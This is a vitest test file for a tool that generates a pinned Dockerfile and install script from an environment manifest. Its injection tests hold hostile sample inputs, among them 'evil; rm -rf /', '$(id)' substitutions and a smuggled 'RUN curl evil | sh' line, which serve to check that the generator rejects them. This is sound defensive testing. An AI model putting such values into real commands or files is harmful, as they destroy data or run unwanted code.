import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { baseImageFor, planRecreate, shellWord } from './recreate.js';
import { sampleManifest } from './test-manifest.js';

const os = sampleManifest().os;

describe('baseImageFor', () => {
  it('maps the OS release to the official base image', () => {
    expect(baseImageFor(os)).toBe('debian:bookworm-slim');
    expect(baseImageFor({ id: 'debian', versionId: '11' })).toBe('debian:bullseye-slim');
    expect(baseImageFor({ id: 'ubuntu', versionId: '22.04', codename: 'jammy' })).toBe('ubuntu:jammy');
    expect(() => baseImageFor({ id: 'debian', versionId: '99' })).toThrow(/which Debian release/);
    expect(() => baseImageFor({ id: 'alpine', versionId: '3.19', prettyName: 'Alpine Linux v3.19' })).toThrow(
      /Cannot recreate a Alpine Linux v3\.19 environment: only Debian and Ubuntu/,
    );
  });
});

describe('shellWord', () => {
  it('leaves plain words and quotes the rest', () => {
    expect(shellWord('x11-common=1:7.7+23')).toBe('x11-common=1:7.7+23');
    expect(shellWord('fonts=5.0.10+really4.7.0~dfsg-4.1')).toBe('fonts=5.0.10+really4.7.0~dfsg-4.1');
    expect(shellWord('~root')).toBe("'~root'");
    expect(shellWord("a b'c")).toBe("'a b'\\''c'");
    expect(shellWord('name @ git+https://x/y.git@abc')).toBe("'name @ git+https://x/y.git@abc'");
  });
});

describe('planRecreate', () => {
  const m = sampleManifest();

  it('without a check: pins every Debian package, pip-installs what did not come from Debian, says it did not check', () => {
    const plan = planRecreate(m, { uncheckedReason: 'Docker is not available' });
    expect(plan.baseImage).toBe('debian:bookworm-slim');
    expect(plan.checked).toBe(false);
    expect(plan.debian.pinned.map((p) => p.name)).toEqual(['bash', 'jq', 'libjq1', 'python3-pandas', 'python3-pip']);
    expect(plan.python.pinned).toEqual([{ name: 'requests', version: '2.31.0' }]);
    expect(plan.python.fromDebian).toBe(2);
    expect(plan.python.notPinnable).toEqual([
      { name: 'coursedock-hello', version: '0.1.0', reason: 'installed from a local path (file:///tmp/pkg), which is on no package index' },
    ]);
    expect(plan.notes.join('\n')).toMatch(/not checked for these versions \(Docker is not available\)/);
    expect(plan.notes.join('\n')).toMatch(/1 Python package\(s\) were in a user's ~\/\.local/);
    expect(plan.dockerfile).toMatch(/^FROM debian:bookworm-slim$/m);
    expect(plan.dockerfile).toContain('      jq=1.6-2.1+deb12u3 \\\n');
    expect(plan.dockerfile).toContain('RUN PIP_BREAK_SYSTEM_PACKAGES=1 python3 -m pip install --no-cache-dir --no-deps --disable-pip-version-check \\\n      requests==2.31.0\n');
  });

  it('with the base image and the archive: skips what the base has, pins what is there, lists the rest', () => {
    const plan = planRecreate(m, {
      basePackages: { bash: '5.2.15-2+b2', 'base-files': '12.4+deb12u5' },
      available: {
        bash: ['5.2.15-2+b13'], // the base's version is not in the archive: fine, it is already there
        jq: ['1.6-2.1+deb12u3', '1.6-2.1+deb12u2'],
        libjq1: ['1.6-2.1+deb12u4'],
        'python3-pip': ['23.0.1+dfsg-1'],
        'python3-pandas': [],
      },
    });
    expect(plan.checked).toBe(true);
    expect(plan.debian.inBase).toEqual([{ name: 'bash', version: '5.2.15-2+b2' }]);
    expect(plan.debian.pinned.map((p) => p.name)).toEqual(['jq', 'python3-pip']);
    expect(plan.debian.unpinned).toEqual([{ name: 'libjq1', version: '1.6-2.1+deb12u3', available: ['1.6-2.1+deb12u4'] }]);
    expect(plan.debian.missing).toEqual([{ name: 'python3-pandas', version: '1.5.3+dfsg-2' }]);
    expect(plan.debian.extraInBase).toEqual([{ name: 'base-files', version: '12.4+deb12u5' }]);
    expect(plan.notPinned).toEqual([
      'Debian libjq1 1.6-2.1+deb12u3: that version is no longer in the archive; installs 1.6-2.1+deb12u4 instead',
      'Debian python3-pandas 1.5.3+dfsg-2: not in the archive of debian:bookworm-slim; not installed',
      'Python coursedock-hello 0.1.0: installed from a local path (file:///tmp/pkg), which is on no package index; not installed',
    ]);
    // Listed in the comment block at the top of both files, never dropped silently.
    for (const text of [plan.dockerfile, plan.script]) {
      expect(text).toContain('# NOT PINNED (3): these do not get the snapshot\'s version.');
      expect(text).toContain('#   - Debian python3-pandas 1.5.3+dfsg-2: not in the archive of debian:bookworm-slim; not installed');
      expect(text).toContain('snapshot.debian.org');
    }
    expect(plan.dockerfile).toContain('      jq=1.6-2.1+deb12u3 \\\n      python3-pip=23.0.1+dfsg-1; \\\n');
    expect(plan.dockerfile).not.toMatch(/^\s+bash=/m);
    expect(plan.dockerfile).toMatch(/apt-get install -y --no-install-recommends --allow-downgrades \\\n {6}libjq1; \\/);
    expect(plan.notes.join('\n')).toMatch(/base-files/);
  });

  it('installs from VCS and archive URLs, pins npm packages, fetches a non-Debian Node.js in its own stage', () => {
    const plan = planRecreate(
      sampleManifest({
        packages: { debian: { bash: '5.2' }, python: { cool: '1.0' }, npm: { 'tty.js': '0.2.13', '@scope/tool': '2.0.0' } },
        python: {
          version: '3.11.2',
          lister: 'pip',
          notFromDebian: { cool: { scope: 'system', location: '/usr/local/lib/python3.11/dist-packages', url: 'git+https://example.org/cool.git@abc123' } },
        },
        node: 'v20.11.1',
      }),
    );
    expect(plan.python.fromUrl).toEqual([{ name: 'cool', version: '1.0', url: 'git+https://example.org/cool.git@abc123' }]);
    expect(plan.dockerfile).toContain("      'cool @ git+https://example.org/cool.git@abc123'\n");
    expect(plan.node).toEqual({ version: 'v20.11.1', from: 'nodejs.org' });
    expect(plan.dockerfile).toContain('FROM debian:bookworm-slim AS nodejs');
    expect(plan.dockerfile).toContain('https://nodejs.org/dist/v20.11.1/node-v20.11.1-linux-x64.tar.xz');
    expect(plan.dockerfile).toContain('COPY --from=nodejs /opt/node/ /usr/local/');
    expect(plan.dockerfile).toContain('RUN npm install -g --no-fund --no-audit \\\n      @scope/tool@2.0.0 \\\n      tty.js@0.2.13 \\\n  && npm cache clean --force');
    expect(plan.notes.join('\n')).toMatch(/no pip/);
  });

  it('uses Debian\'s Node.js when the nodejs package matches', () => {
    const plan = planRecreate(
      sampleManifest({ packages: { debian: { nodejs: '18.19.0+dfsg-6~deb12u2' }, python: {}, npm: {} }, node: 'v18.19.0' }),
    );
    expect(plan.node).toEqual({ version: 'v18.19.0', from: 'debian' });
    expect(plan.dockerfile).not.toContain('nodejs.org');
  });

  it('refuses names and versions that could inject shell, and lists them', () => {
    const plan = planRecreate(
      sampleManifest({
        packages: { debian: { 'ok-pkg': '1.0', 'evil; rm -rf /': '1', sneaky: '1.0$(id)' }, python: { bad: '1' }, npm: { 'x && y': '1' } },
        python: { version: '3', lister: 'pip', notFromDebian: { bad: { scope: 'system', location: '/usr/local', url: "https://x/'$(id)" } } },
      }),
    );
    expect(plan.invalid).toEqual(['Debian evil; rm -rf / 1', 'Debian sneaky 1.0$(id)', 'npm x && y 1']);
    expect(plan.python.notPinnable[0]!.reason).toMatch(/unusual URL/);
    expect(plan.notPinned).toHaveLength(4);
    for (const text of [plan.dockerfile, plan.script]) {
      const commands = text.split('\n').filter((l) => !l.startsWith('#'));
      expect(commands.join('\n')).not.toMatch(/evil|\$\(id\)|x && y/);
    }
  });

  it('keeps comments one line each, whatever the manifest says', () => {
    const plan = planRecreate(sampleManifest({ name: 'two\nRUN curl evil | sh', image: { ref: 'a\nRUN x', id: 'sha256:1' } }));
    expect(plan.dockerfile).not.toMatch(/^RUN (curl|x)/m);
  });

  it('adds foreign architectures before installing their packages', () => {
    const plan = planRecreate(sampleManifest({ packages: { debian: { 'libc6:i386': '2.36-9' }, python: {}, npm: {} } }));
    expect(plan.dockerfile).toContain('    dpkg --add-architecture i386; \\\n    apt-get update; \\');
    expect(plan.dockerfile).toContain('libc6:i386=2.36-9');
  });

  it('writes a shell script that sh accepts, checks for root and the release, and pins everything', () => {
    const plan = planRecreate(m, { basePackages: { bash: '5.2.15-2+b2' } });
    expect(() => execFileSync('sh', ['-n', '-c', plan.script])).not.toThrow();
    expect(plan.script.startsWith('#!/bin/sh\n')).toBe(true);
    expect(plan.script).toContain('if [ "$(id -u)" != 0 ]');
    expect(plan.script).toContain('[ "${VERSION_CODENAME:-}" != bookworm ]');
    // The script does not know the machine's packages: bash is pinned there too.
    expect(plan.script).toContain('  bash=5.2.15-2+b2 \\\n');
    expect(plan.script).toContain('PIP_BREAK_SYSTEM_PACKAGES=1 python3 -m pip install');
  });
});
